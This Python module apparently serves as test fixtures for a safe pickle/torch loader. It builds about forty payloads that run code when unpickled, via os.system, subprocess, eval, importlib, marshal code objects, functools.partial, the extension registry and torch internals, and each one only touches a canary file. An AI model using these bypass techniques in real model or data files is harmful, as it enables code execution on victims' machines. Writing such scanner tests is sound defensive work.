"""Pickles and torch files that try to run code.

Every attack gets the path of a canary, a file that must not appear, and creates it when the loader that people
use otherwise (`pickle.loads`, `torch.load(weights_only=False)`) reads what it returns. Some write files of their
own beside the canary, whose folder has to be importable.
"""

from __future__ import annotations

import marshal
import pickle
import struct
from collections.abc import Callable
from pathlib import Path

from pickle_assembly import NOTHING, call, dict_of, get, name, number, put, raw, text, torch_stream, tuple_of, whole

Attack = Callable[[Path], bytes]
EXTENSION = ("os", "system", 0x7E57)
"""What the extension registry has to know for one of the attacks."""
_SYSTEM = name("os", "system")
_PARTIAL = name("functools", "partial")


def _shell(canary: Path) -> bytes:
    return text(f"touch '{canary}'")


def _source(canary: Path) -> str:
    return f"open({str(canary)!r}, 'w').close()"


def _python(canary: Path) -> bytes:
    return text(_source(canary))


def _touch(canary: Path) -> bytes:
    return call(_SYSTEM, _shell(canary))


def _file(canary: Path, suffix: str, content: bytes) -> bytes:
    path = canary.with_suffix(suffix)
    path.write_bytes(content)
    return text(str(path))


def _module(canary: Path) -> str:
    """Write a module whose import creates the canary."""
    module = f"evil_{canary.stem}"
    canary.with_name(f"{module}.py").write_text(_source(canary))
    return module


def _npy(canary: Path) -> bytes:
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }".ljust(117) + b"\n"
    return _file(canary, ".npy", b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + whole(_touch(canary)))


def _stream(canary: Path) -> bytes:
    return torch_stream(whole(_touch(canary)), {})


def _function(canary: Path) -> bytes:
    code = marshal.dumps(compile(_source(canary), "evil", "exec"))
    return call(name("types", "FunctionType"), call(name("marshal", "loads"), raw(code)), dict_of())


def _import(module: str) -> bytes:
    return call(name("importlib", "import_module"), text(module))


def _nested(content: bytes) -> bytes:
    return whole(call(name("torch.storage", "_load_from_bytes"), raw(content)))


_CALL = pickle.EMPTY_TUPLE + pickle.REDUCE
ATTACKS: dict[str, Attack] = {
    "os.system": lambda canary: whole(_touch(canary)),
    "posix.system": lambda canary: whole(call(name("posix", "system"), _shell(canary))),
    "protocol 0": lambda canary: f"cos\nsystem\n(Vtouch '{canary}'\ntR.".encode(),
    "INST": lambda canary: f"(Vtouch '{canary}'\nios\nsystem\n.".encode(),
    "OBJ": lambda canary: whole(
        call(name("operator", "methodcaller"), text("wait")),
        pickle.MARK,
        pickle.MARK,
        name("subprocess", "Popen"),
        tuple_of(text("touch"), text(str(canary))),
        pickle.OBJ,
        pickle.TUPLE,
        pickle.REDUCE,
    ),
    "NEWOBJ": lambda canary: whole(
        name("subprocess", "Popen"),
        pickle.EMPTY_TUPLE,
        pickle.NEWOBJ,
        put(0),
        call(name("subprocess", "Popen.__init__"), get(0), tuple_of(text("touch"), text(str(canary)))),
        call(name("subprocess", "Popen.wait"), get(0)),
    ),
    "NEWOBJ_EX": lambda canary: whole(
        _PARTIAL, tuple_of(_SYSTEM), dict_of(text("command"), _shell(canary)), pickle.NEWOBJ_EX, _CALL
    ),
    "partial": lambda canary: whole(call(_PARTIAL, _SYSTEM, _shell(canary)), _CALL),
    "partial by BUILD": lambda canary: whole(
        call(_PARTIAL, name("builtins", "len")),
        tuple_of(_SYSTEM, tuple_of(_shell(canary)), pickle.EMPTY_DICT, NOTHING),
        pickle.BUILD,
        _CALL,
    ),
    "dotted name": lambda canary: whole(call(name("os", "path.os.system"), _shell(canary))),
    "dotted name of an allowed module": lambda canary: whole(
        call(
            call(name("operator", "methodcaller"), text("system"), _shell(canary)),
            call(name("collections", "_sys.modules.get"), text("os")),
        )
    ),
    "eval": lambda canary: whole(call(name("builtins", "eval"), _python(canary))),
    "exec": lambda canary: whole(call(name("builtins", "exec"), _python(canary))),
    "eval by its old name": lambda canary: f"c__builtin__\neval\n(V{_source(canary)}\ntR.".encode(),
    "importlib": lambda canary: whole(_import(_module(canary))),
    "__import__": lambda canary: whole(call(name("builtins", "__import__"), text(_module(canary)))),
    "a name whose module is imported": lambda canary: whole(name(_module(canary), "anything")),
    "getattr": lambda canary: whole(
        call(call(name("builtins", "getattr"), _import("os"), text("system")), _shell(canary))
    ),
    "attrgetter": lambda canary: whole(
        call(call(call(name("operator", "attrgetter"), text("system")), _import("os")), _shell(canary))
    ),
    "subprocess": lambda canary: whole(
        call(name("subprocess", "check_call"), tuple_of(text("touch"), text(str(canary))))
    ),
    "timeit": lambda canary: whole(call(name("timeit", "timeit"), text("0"), _python(canary))),
    "pydoc.locate": lambda canary: whole(call(name("pydoc", "locate"), text(_module(canary)))),
    "cProfile": lambda canary: whole(call(name("cProfile", "run"), _python(canary), text("/dev/null"))),
    "runpy": lambda canary: whole(call(name("runpy", "run_path"), _file(canary, ".py", _source(canary).encode()))),
    "code object": lambda canary: whole(_function(canary), _CALL),
    "pickle.loads": lambda canary: whole(call(name("_pickle", "loads"), raw(whole(_touch(canary))))),
    "numpy.load": lambda canary: whole(call(name("numpy", "load"), _npy(canary), NOTHING, pickle.NEWTRUE)),
    "copyreg": lambda canary: whole(
        call(name("copyreg", "__newobj__"), _PARTIAL, _SYSTEM, _shell(canary)),
        _CALL,
    ),
    "extension registry": lambda canary: whole(
        call(pickle.EXT2 + struct.pack("<H", EXTENSION[-1]), _shell(canary)),
    ),
    "factory of a defaultdict": lambda canary: whole(
        call(
            call(name("operator", "itemgetter"), text("missing")),
            call(name("collections", "defaultdict"), call(_PARTIAL, _SYSTEM, _shell(canary))),
        )
    ),
    "hidden among data": lambda canary: whole(dict_of(text("epoch"), number(3), text("model"), _touch(canary))),
    "thrown away": lambda canary: whole(_touch(canary), pickle.POP, number(1)),
}
TORCH_ATTACKS: dict[str, Attack] = {
    "_load_from_bytes": lambda canary: _nested(_stream(canary)),
    "_load_from_bytes in itself": lambda canary: _nested(torch_stream(_nested(_stream(canary)), {})),
    "torch.load": lambda canary: whole(
        _PARTIAL,
        tuple_of(name("torch", "load"), _file(canary, ".pt", _stream(canary))),
        dict_of(text("weights_only"), pickle.NEWFALSE),
        pickle.NEWOBJ_EX,
        _CALL,
    ),
    "torch.hub": lambda canary: whole(
        call(name("torch.hub", "_import_module"), text("hubconf"), _file(canary, ".py", _source(canary).encode()))
    ),
    "torch's own lookup of names": lambda canary: whole(
        call(call(name("torch._utils", "_import_dotted_name"), text("os.system")), _shell(canary))
    ),
    "a function to rebuild by": lambda canary: whole(
        call(
            name("torch._tensor", "_rebuild_from_type_v2"),
            _SYSTEM,
            name("torch", "Tensor"),
            tuple_of(_shell(canary)),
            pickle.EMPTY_DICT,
        )
    ),
}
